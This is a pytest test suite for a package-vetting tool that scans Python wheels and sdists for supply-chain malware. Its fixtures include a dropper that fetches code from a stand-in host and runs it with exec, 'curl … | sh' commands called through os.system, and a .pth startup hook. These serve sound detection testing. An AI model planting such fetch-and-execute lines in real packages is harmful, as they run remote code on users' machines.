"""From bytes to report: streams, bases, crashes, and nothing unexamined that ends as clean."""

import hashlib
import io
import tarfile
import zipfile
from collections.abc import Iterator

import msgspec
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from pratique.vet import contents as contents_module
from pratique.vet import examine as examine_module
from pratique.vet.analyses.kit import ContentAnalysis, PythonAnalysis, Rule
from pratique.vet.base import Base
from pratique.vet.engine import Outcome, Vetting, facts_of, vet_archive
from pratique.vet.facts import decode_content, decode_release, encode_content, encode_release
from pratique.vet.limits import VetLimits
from pratique.vet.model import ContentFacts, Context, Language, Regime, Verdict

WHEEL = "demo-1.0-py3-none-any.whl"
NEXT = "demo-1.1-py3-none-any.whl"

# Inert: hosts do not exist, and nothing here is ever run.
DROPPER = (
    "import base64, subprocess, urllib.request\n"
    "code = urllib.request.urlopen('https://collector.example/stage').read()\n"
    "exec(base64.b64decode(code))\n"
)
ORDINARY = "import os\n\n\ndef tidy(path):\n    return os.path.normpath(path)\n"
CLEAN = {
    "demo/__init__.py": "from demo.core import tidy\n__version__ = '1.0'\n",
    "demo/core.py": ORDINARY,
}


def wheel(files: dict[str, str | bytes], version: str = "1.0") -> bytes:
    info = f"demo-{version}.dist-info"
    every = {
        **files,
        f"{info}/METADATA": f"Metadata-Version: 2.1\nName: demo\nVersion: {version}\nSummary: a demo\n"
        "Author: A. Person\nHome-page: https://demo.example\nLicense: MIT\n\n" + "Words. " * 200,
        f"{info}/WHEEL": "Wheel-Version: 1.0\nGenerator: test\nRoot-Is-Purelib: true\nTag: py3-none-any\n",
    }
    record = [f"{path},," for path in (*every, f"{info}/RECORD")]
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for path, content in {**every, f"{info}/RECORD": "\n".join(record) + "\n"}.items():
            archive.writestr(zipfile.ZipInfo(path), content)
    return out.getvalue()


def sdist(files: dict[str, str | bytes], version: str = "1.0") -> bytes:
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w:gz") as archive:
        for path, content in files.items():
            data = content.encode() if isinstance(content, str) else content
            info = tarfile.TarInfo(f"demo-{version}/{path}")
            info.size = len(data)
            archive.addfile(info, io.BytesIO(data))
    return out.getvalue()


def in_pieces(data: bytes, size: int) -> Iterator[bytes]:
    for at in range(0, len(data), size):
        yield data[at : at + size]


# ── what it says ─────────────────────────────────────────────────────────────────────────────


def test_an_ordinary_release_is_clean() -> None:
    report = vet_archive(wheel(CLEAN), WHEEL).report
    assert report.verdict is Verdict.CLEAN
    assert report.regime is Regime.FIRST
    assert report.unread == ()


def test_fetched_code_that_is_executed_at_import_is_found_and_explained() -> None:
    files = {**CLEAN, "demo/core.py": ORDINARY + DROPPER}
    report = vet_archive(wheel(files), WHEEL).report
    assert report.verdict in {Verdict.SUSPICIOUS, Verdict.MALICIOUS}
    first = report.findings[0]
    assert first.path == "demo/core.py"
    assert first.reach == "import"
    assert first.points > 0 or first.decisive
    assert first.what
    assert first.danger


def test_points_of_findings_are_the_score() -> None:
    files = {**CLEAN, "demo/core.py": ORDINARY + DROPPER}
    report = vet_archive(wheel(files), WHEEL).report
    again = vet_archive(wheel(CLEAN), WHEEL).report
    assert report.score > again.score
    assert sum(finding.points for finding in report.findings) > sum(
        f.points for f in again.findings
    )


def test_two_runs_give_equal_bytes() -> None:
    data = wheel({**CLEAN, "demo/core.py": DROPPER, "demo/other.py": ORDINARY})
    runs = {
        msgspec.json.encode(
            (outcome.report, outcome.release, sorted(map(str, outcome.new.items())))
        )
        for outcome in (vet_archive(data, WHEEL) for _ in range(3))
    }
    assert len(runs) == 1


@pytest.mark.slow
@settings(max_examples=15, deadline=None)
@given(st.integers(1, 3000))
def test_the_outcome_does_not_depend_on_where_the_network_cut(size: int) -> None:
    data = wheel({**CLEAN, "demo/core.py": DROPPER})
    vetting = Vetting(WHEEL)
    for piece in in_pieces(data, size):
        vetting.feed(piece)
    assert vetting.finish(data) == vet_archive(data, WHEEL)


# ── against a base ───────────────────────────────────────────────────────────────────────────


def test_a_caller_who_knows_the_hash_gets_the_same_outcome() -> None:
    data = wheel(CLEAN)
    known = Vetting(WHEEL, sha256=hashlib.sha256(data).hexdigest())
    known.feed(data)
    assert known.finish(data) == vet_archive(data, WHEEL)


def test_what_was_there_before_is_no_news() -> None:
    base = facts_of(wheel({**CLEAN, "demo/core.py": DROPPER}), WHEEL)
    changed = {**CLEAN, "demo/core.py": "# a comment\n" + DROPPER, "demo/new.py": ORDINARY}
    report = vet_archive(wheel(changed, "1.1"), NEXT, base=base).report
    assert report.regime is Regime.DIFF
    assert report.verdict is Verdict.CLEAN
    assert not [f for f in report.findings if f.path == "demo/core.py"]


@pytest.mark.parametrize("with_archive", [True, False])
def test_what_is_added_is_found(with_archive: bool) -> None:
    base = facts_of(wheel(CLEAN), WHEEL)
    if not with_archive:
        base = Base(release=base.release, contents=base.contents)
    grafted = {**CLEAN, "demo/core.py": ORDINARY + DROPPER}
    report = vet_archive(wheel(grafted, "1.1"), NEXT, base=base).report
    assert report.verdict in {Verdict.SUSPICIOUS, Verdict.MALICIOUS}
    assert report.findings[0].path == "demo/core.py"
    assert report.changes


def test_a_new_start_hook_is_found() -> None:
    hook = "import os, subprocess; subprocess.Popen(['python', '-c', 'pass'])\n"
    base = facts_of(wheel(CLEAN), WHEEL)
    report = vet_archive(wheel({**CLEAN, "demo_init.pth": hook}, "1.1"), NEXT, base=base).report
    assert report.verdict is Verdict.MALICIOUS
    assert report.findings[0].path == "demo_init.pth"
    assert report.findings[0].reach == "startup"


def test_an_idle_function_that_is_called_one_release_later_is_news() -> None:
    sleeping = {**CLEAN, "demo/core.py": "def later():\n" + _indented(DROPPER)}
    woken = {**CLEAN, "demo/core.py": "def later():\n" + _indented(DROPPER) + "\n\nlater()\n"}
    base = facts_of(wheel(sleeping), WHEEL)
    quiet = vet_archive(wheel(sleeping, "1.1"), NEXT, base=base).report
    loud = vet_archive(wheel(woken, "1.1"), NEXT, base=base).report
    assert not [f for f in quiet.findings if f.path == "demo/core.py"]
    assert [f for f in loud.findings if f.path == "demo/core.py" and f.reach == "import"]


def _indented(text: str) -> str:
    return "".join(f"    {line}\n" for line in text.splitlines())


def test_unchanged_contents_are_not_analysed_again() -> None:
    base = facts_of(wheel({**CLEAN, "demo/core.py": DROPPER}), WHEEL)
    outcome = vet_archive(wheel({**CLEAN, "demo/core.py": DROPPER}, "1.1"), NEXT, base=base)
    assert {key[1] for key in outcome.new} <= {Language.METADATA}


def test_a_changed_source_without_a_new_deed_is_not_parsed() -> None:
    base = facts_of(wheel({**CLEAN, "demo/core.py": DROPPER}), WHEEL)
    outcome = vet_archive(
        wheel({**CLEAN, "demo/core.py": "x = 1\n" + DROPPER}, "1.1"), NEXT, base=base
    )
    assert outcome.partial
    assert not [key for key in outcome.new if key[1] is Language.PYTHON]


def test_facts_that_were_left_out_are_made_when_they_are_needed() -> None:
    one = wheel({**CLEAN, "demo/core.py": DROPPER})
    two = wheel({**CLEAN, "demo/core.py": "x = 1\n" + DROPPER}, "1.1")
    first = facts_of(one, WHEEL)
    second = vet_archive(two, NEXT, base=first)
    archive = facts_of(two, NEXT)
    base = Base(release=second.release, contents={**second.new}, read=archive.read)
    three = wheel({**CLEAN, "demo/core.py": "import socket\nx = 1\n" + DROPPER}, "1.2")
    report = vet_archive(three, "demo-1.2-py3-none-any.whl", base=base).report
    assert not [f for f in report.findings if "exec" in f.rule]


def test_facts_known_from_the_store_are_not_made_again() -> None:
    data = wheel({**CLEAN, "demo/core.py": DROPPER})
    first = vet_archive(data, WHEEL)
    asked = []

    def known(sha256: str, language: Language) -> ContentFacts | None:
        asked.append(sha256)
        return first.new.get((sha256, language))

    again = vet_archive(data, WHEEL, known=known)
    assert again.new == {}
    assert again.report.features == first.report.features
    assert asked


# ── nothing unexamined is clean ──────────────────────────────────────────────────────────────


def _broken(*_: object) -> Iterator[object]:
    raise ZeroDivisionError
    yield


RULE = Rule(name="broken", title="", techniques=(), what="", danger="", benign="", traits={})


@pytest.mark.parametrize("what", ["python", "content", "reader", "contents", "rules"])
def test_a_crash_is_named_and_never_clean(what: str, monkeypatch: pytest.MonkeyPatch) -> None:
    if what == "python":
        broken = (PythonAnalysis(rule=RULE, run=_broken),)
        run = examine_module.run_analyses
        monkeypatch.setattr(examine_module, "run_analyses", lambda file: run(file, broken))
    elif what == "content":
        every = frozenset(Language)
        broken = (ContentAnalysis(rule=RULE, languages=every, run=_broken),)
        monkeypatch.setattr(examine_module, "CONTENT_ANALYSES", broken)
    elif what == "reader":
        monkeypatch.setattr(examine_module, "read_python", _raise)
    elif what == "contents":
        monkeypatch.setattr(contents_module, "language_of", _raise)
    else:
        monkeypatch.setattr("pratique.vet.verdict.features_of_all", _raise)
    report = vet_archive(wheel({**CLEAN, "demo/core.py": "import socket\n"}), WHEEL).report
    assert report.verdict is Verdict.UNKNOWN
    assert "ZeroDivisionError" in " ".join(report.unread)


def _raise(*_: object, **__: object) -> None:
    raise ZeroDivisionError


@pytest.mark.parametrize(
    "data", [b"", b"PK\x03\x04", b"not an archive", wheel(CLEAN)[:-40], wheel(CLEAN)[:400]]
)  # fmt: skip
def test_what_cannot_be_read_is_unknown(data: bytes) -> None:
    report = vet_archive(data, WHEEL).report
    assert report.verdict is Verdict.UNKNOWN
    assert report.unread


@pytest.mark.parametrize(
    ("padding", "limits"),
    [
        ("import os\n" * 4_001, VetLimits()),
        ("open('x', 'w')\nimport socket\nsocket.socket()\n", VetLimits(signs_per_content=1)),
    ],
    ids=["imports", "signs"],
)
def test_what_limits_on_facts_cut_off_is_not_taken_for_examined(
    padding: str, limits: VetLimits
) -> None:
    files = {**CLEAN, "demo/core.py": padding + DROPPER}
    report = vet_archive(wheel(files), WHEEL, limits=limits).report
    assert report.verdict is not Verdict.CLEAN
    assert any("left out" in sentence for sentence in report.unread)


def test_too_large_a_source_is_unknown_only_when_it_could_do_something() -> None:
    limits = VetLimits(source_bytes=1000)
    harmless = "TABLE = [\n" + "    1,\n" * 1000 + "]\n"
    assert (
        vet_archive(wheel({**CLEAN, "demo/t.py": harmless}), WHEEL, limits=limits).report.verdict
        is Verdict.CLEAN
    )
    report = vet_archive(
        wheel({**CLEAN, "demo/t.py": "import socket\n" + harmless}), WHEEL, limits=limits
    ).report
    assert report.verdict is Verdict.UNKNOWN
    assert report.unread[0].startswith("demo/t.py: too large")


def test_a_source_too_large_to_hold_is_searched_whole() -> None:
    limits = VetLimits(
        archive=VetLimits().archive.__class__(held_text_bytes=64 * 1024, head_bytes=4096)
    )
    lines = "VALUES = 'a'\n" * 20_000
    for source, verdict in ((lines, Verdict.CLEAN), (lines + "exec(VALUES)\n", Verdict.UNKNOWN)):
        outcome = vet_archive(wheel({**CLEAN, "demo/t.py": source}), WHEEL, limits=limits)
        assert outcome.report.verdict is verdict


def test_a_path_that_is_there_twice_counts_twice() -> None:
    out = io.BytesIO(wheel(CLEAN))
    with zipfile.ZipFile(out, "a") as archive, pytest.warns(UserWarning, match="Duplicate name"):
        archive.writestr("demo/core.py", DROPPER)
    outcome = vet_archive(out.getvalue(), WHEEL)
    assert "archive-oddity" in {finding.rule for finding in outcome.report.findings}
    assert [f for f in outcome.report.findings if f.path == "demo/core.py" and f.reach == "import"]
    assert len([entry for entry in outcome.release.files if entry.path == "demo/core.py"]) == 1


# ── padding ──────────────────────────────────────────────────────────────────────────────────


@settings(max_examples=12, deadline=None)
@given(st.integers(0, 40), st.integers(0, 3))
def test_padding_takes_no_feature_away(modules: int, where: int) -> None:
    payload = {**CLEAN, "demo/core.py": ORDINARY + DROPPER}
    padding = {f"demo/{'az'[where % 2]}{i}.py": ORDINARY * (1 + i) for i in range(modules)}
    padded = {**padding, **payload} if where > 1 else {**payload, **padding}
    bare = vet_archive(wheel(payload), WHEEL).report
    fat = vet_archive(wheel(padded), WHEEL).report
    lost = {
        f
        for f in set(bare.features) - set(fat.features)
        if not f.startswith(("thin-package", "thin-deed"))
    }
    assert lost == set()


def test_among_many_sources_the_suspicious_ones_are_parsed() -> None:
    noise = "import socket\n\n\ndef hello(host):\n    return socket.gethostbyname(host)\n"
    padding = {f"demo/m{i}.py": f"# {i}\n" + noise * 40 for i in range(80)}
    payload = DROPPER.replace("https://collector.example", "http://203.0.113.7:8080")
    report = vet_archive(wheel({**CLEAN, **padding, "demo/z.py": payload}), WHEEL).report
    assert [f for f in report.findings if f.path == "demo/z.py" and f.rule != "sinks"]


# ── for the store ────────────────────────────────────────────────────────────────────────────


def test_facts_survive_the_store() -> None:
    outcome = vet_archive(wheel({**CLEAN, "demo/core.py": DROPPER}), WHEEL)
    assert decode_release(encode_release(outcome.release)) == outcome.release
    for facts in outcome.new.values():
        assert decode_content(encode_content(facts)) == facts


@pytest.mark.parametrize("spoil", [b"pratique-facts 0\n", b"", b"\xff"])
def test_facts_of_another_engine_are_not_read(spoil: bytes) -> None:
    outcome = vet_archive(wheel(CLEAN), WHEEL)
    stored = encode_content(next(iter(outcome.new.values())))
    assert decode_content(spoil + stored.partition(b"\n")[2]) is None
    assert decode_content(stored[:-3]) is None


def test_a_release_is_identified_by_its_bytes() -> None:
    data = sdist({"setup.py": "from setuptools import setup\nsetup()\n", "demo/__init__.py": ""})
    outcome: Outcome = vet_archive(data, "demo-1.0.tar.gz", context=Context(project="demo"))
    assert outcome.release.sha256 == hashlib.sha256(data).hexdigest()
    assert outcome.release.kind == "sdist"
    assert {entry.path for entry in outcome.release.files} == {
        "demo-1.0/setup.py",
        "demo-1.0/demo/__init__.py",
    }


# ── dormant code ────────────────────────────────────────────────────────────────────────────────

DORMANT = {
    "demo/__init__.py": "from demo.core import tidy\n__version__ = '1.0'\n",
    "demo/core.py": ORDINARY,
    "demo/quiet.py": "from . import core\n\n\nLIMIT = 3\n",
    "demo/evil.py": "def go():\n" + "".join(f"    {line}\n" for line in DROPPER.splitlines()),
    "demo/middle.py": "from .evil import go as _begin\n\n\ndef begin():\n    return _begin()\n",
}


@pytest.mark.parametrize("facts_only", [False, True])
@pytest.mark.parametrize(
    "changed",
    [
        {"demo/__init__.py": "from .evil import go; go()\n"},
        {"demo/__init__.py": DORMANT["demo/__init__.py"] + "from .middle import begin\nbegin()\n"},
        {
            "demo/__init__.py": "from . import fresh\n",
            "demo/fresh.py": "from .evil import go\ngo()\n",
        },
        {"demo/quiet.py": "from . import core, evil\nLIMIT = 3\nevil.go()\n"},
        {
            "demo/quiet.py": DORMANT["demo/quiet.py"] + "from .fresh import Fresh\nFresh().go()\n",
            "demo/fresh.py": "from .evil import go\n\n\nclass Fresh:\n    def go(self):\n        go()\n",
        },
        {"demo/middle.py": DORMANT["demo/middle.py"] + "\n\n_begin()\n"},
    ],
)
def test_a_dormant_function_that_is_called_one_release_later_is_news(
    changed: dict[str, str], facts_only: bool
) -> None:
    base = facts_of(wheel(DORMANT), WHEEL)
    if facts_only:
        base = Base(release=base.release, contents=base.contents)
    report = vet_archive(wheel({**DORMANT, **changed}, "1.1"), NEXT, base=base).report
    places = {(f.rule, f.path, f.reach) for f in report.findings}
    expected = "submodule" if "demo/__init__.py" not in changed else "import"
    assert any(r == "fetched-exec" and p == "demo/evil.py" and e == expected for r, p, e in places)


@pytest.mark.parametrize(
    "added",
    [
        "from . import fresh\n",
        "from .fresh import (\n    nothing,\n)\n",
        "try:\n    from . import fresh\nexcept ImportError:\n    fresh = None\n",
        "import demo.fresh\n",
    ],
)
def test_an_added_import_that_calls_nothing_is_seen(added: str) -> None:
    base = facts_of(wheel(DORMANT), WHEEL)
    start = DORMANT["demo/__init__.py"]
    fresh = "nothing = 0\n" + DROPPER
    changed = {**DORMANT, "demo/__init__.py": start + added, "demo/fresh.py": fresh}
    report = vet_archive(wheel(changed, "1.1"), NEXT, base=base).report
    assert {f.reach for f in report.findings if f.rule == "fetched-exec"} == {"import"}


def test_an_import_added_to_a_function_runs_when_that_is_called() -> None:
    base = facts_of(wheel(DORMANT), WHEEL)
    start = DORMANT["demo/__init__.py"]
    added = "\n\ndef later():\n    from . import fresh\n"
    changed = {**DORMANT, "demo/__init__.py": start + added, "demo/fresh.py": DROPPER}
    report = vet_archive(wheel(changed, "1.1"), NEXT, base=base).report
    assert {f.reach for f in report.findings if f.rule == "fetched-exec"} == {"submodule"}


def test_what_a_build_imports_is_imported_by_everybody_else_too() -> None:
    files = {
        "setup.py": "from setuptools import setup\nimport demo\nsetup(name='demo')\n",
        "demo/__init__.py": "",
        "PKG-INFO": "Metadata-Version: 2.1\nName: demo\nVersion: 1.0\n",
    }
    base = facts_of(sdist(files), "demo-1.0.tar.gz")
    changed = {**files, "demo/__init__.py": "from . import fresh\n", "demo/fresh.py": DROPPER}
    features = vet_archive(sdist(changed, "1.1"), "demo-1.1.tar.gz", base=base).report.features
    assert {"sinks:network@build", "sinks:network@import"} <= set(features)


def test_what_starting_a_module_runs_is_no_mere_function() -> None:
    start = {**DORMANT, "demo/__main__.py": "print('demo')\n"}
    base = facts_of(wheel(start), WHEEL)
    report = vet_archive(
        wheel({**start, "demo/__main__.py": DROPPER}, "1.1"), NEXT, base=base
    ).report
    assert "sinks:network@entry" in report.features
    assert "sinks:network@submodule" not in report.features


ASLEEP = {
    **DORMANT,
    "demo/evil.py": "class Worker:\n    def fetch(self):\n"
    + "".join(f"        {line}\n" for line in DROPPER.splitlines())
    + "        return self\n",
}
WAKING = {"demo/__init__.py": "from demo.evil import Worker\n\nWorker().fetch()\n"}


def test_a_source_that_was_never_worth_parsing_is_parsed_when_it_is_newly_imported() -> None:
    unparsed = facts_of(wheel(ASLEEP), WHEEL, limits=VetLimits(first_bytes=0, chosen_bytes=0))
    assert not any(f.parsed for (_, _), f in unparsed.contents.items() if f.hits)
    report = vet_archive(wheel({**ASLEEP, **WAKING}, "1.1"), NEXT, base=unparsed).report
    assert report.verdict is Verdict.MALICIOUS
    assert report.findings[0].path == "demo/evil.py"
    assert report.findings[0].reach == "import"


def test_a_changed_source_that_is_newly_imported_was_looked_at_already() -> None:
    # The gate remembers `socket`; nothing in the file is a deed.
    plain = "import socket\n\n\ndef tidy(text):\n    return socket.htons(len(text))\n"
    old = {**CLEAN, "demo/plain.py": plain}
    changed = {"demo/plain.py": plain + "\n\nLIMIT = 7\n"}
    waking = {"demo/__init__.py": "from demo.plain import tidy\n\ntidy('')\n"}
    unparsed = facts_of(wheel(old), WHEEL, limits=VetLimits(first_bytes=0, chosen_bytes=0))
    report = vet_archive(wheel({**old, **changed, **waking}, "1.1"), NEXT, base=unparsed).report
    assert report.verdict is Verdict.CLEAN
    assert report.unread == ()


def test_a_newly_imported_source_that_cannot_be_read_again_is_never_clean() -> None:
    unparsed = facts_of(wheel(ASLEEP), WHEEL, limits=VetLimits(first_bytes=0, chosen_bytes=0))
    base = Base(release=unparsed.release, contents=unparsed.contents)
    report = vet_archive(wheel({**ASLEEP, **WAKING}, "1.1"), NEXT, base=base).report
    assert report.verdict is not Verdict.CLEAN
    assert any("demo/evil.py" in sentence for sentence in report.unread)


def test_a_first_release_whose_init_only_calls_what_a_module_holds() -> None:
    files = {**DORMANT, "demo/__init__.py": "from .evil import go; go()\n"}
    report = vet_archive(wheel(files), WHEEL).report
    assert any(f.rule == "fetched-exec" and f.reach == "import" for f in report.findings)


def test_a_deed_behind_old_ones_of_its_kind_is_news() -> None:
    old = "import os\n" + "".join(f"os.system('curl https://{x}.example/s | sh')\n" for x in "abc")
    added = old + "os.system('curl https://collector.example/s | sh')\n"
    base = facts_of(wheel({**CLEAN, "demo/__init__.py": old}), WHEEL)
    outcome = vet_archive(wheel({**CLEAN, "demo/__init__.py": added}, "1.1"), NEXT, base=base)
    assert any(f.rule == "command" and "collector" in f.shown for f in outcome.report.findings)


def test_a_wheel_is_held_against_the_sdist_of_its_release() -> None:
    source = facts_of(sdist(CLEAN), "demo-1.0.tar.gz")
    hook = {**CLEAN, "demo_init.pth": "import demo.core\n"}
    same = vet_archive(wheel(CLEAN), WHEEL, sibling=source).report
    replaced = vet_archive(wheel(hook), WHEEL, sibling=source).report
    assert not any(f.rule == "wheel-not-in-sdist" for f in same.findings)
    told = {(f.trait, f.path) for f in replaced.findings if f.rule == "wheel-not-in-sdist"}
    assert told == {("start-hook", "demo_init.pth"), ("deed", "demo_init.pth")}


# ── what asks for a person whatever the score ────────────────────────────────────────────────


@pytest.mark.slow
@pytest.mark.parametrize("mib", [3, 9], ids=["searched", "not even held"])
def test_a_source_larger_than_anybody_reads_asks_for_a_person(mib: int) -> None:
    lines = "value = 1234567\n" * (mib << 16)
    giant = vet_archive(wheel({**CLEAN, "demo/core.py": lines + "exec (value)\n"}), WHEEL).report
    assert giant.verdict is Verdict.SUSPICIOUS
    assert "hidden-text:giant@import" in giant.features
    table = vet_archive(wheel({**CLEAN, "demo/core.py": lines}), WHEEL).report
    assert table.verdict is Verdict.CLEAN


def test_compiled_modules_without_source_ask_for_a_person() -> None:
    elf = b"\x7fELF\x02\x01\x01" + bytes(9) + b"\x03\x00" + bytes(4_000)
    files = {"setup.py": "from setuptools import setup\n\nsetup(name='demo')\n"}
    report = vet_archive(sdist({**files, "demo/core.so": elf}), "demo-1.0.tar.gz").report
    assert report.verdict is Verdict.SUSPICIOUS
    assert "new-native-code:no-source@submodule" in report.features
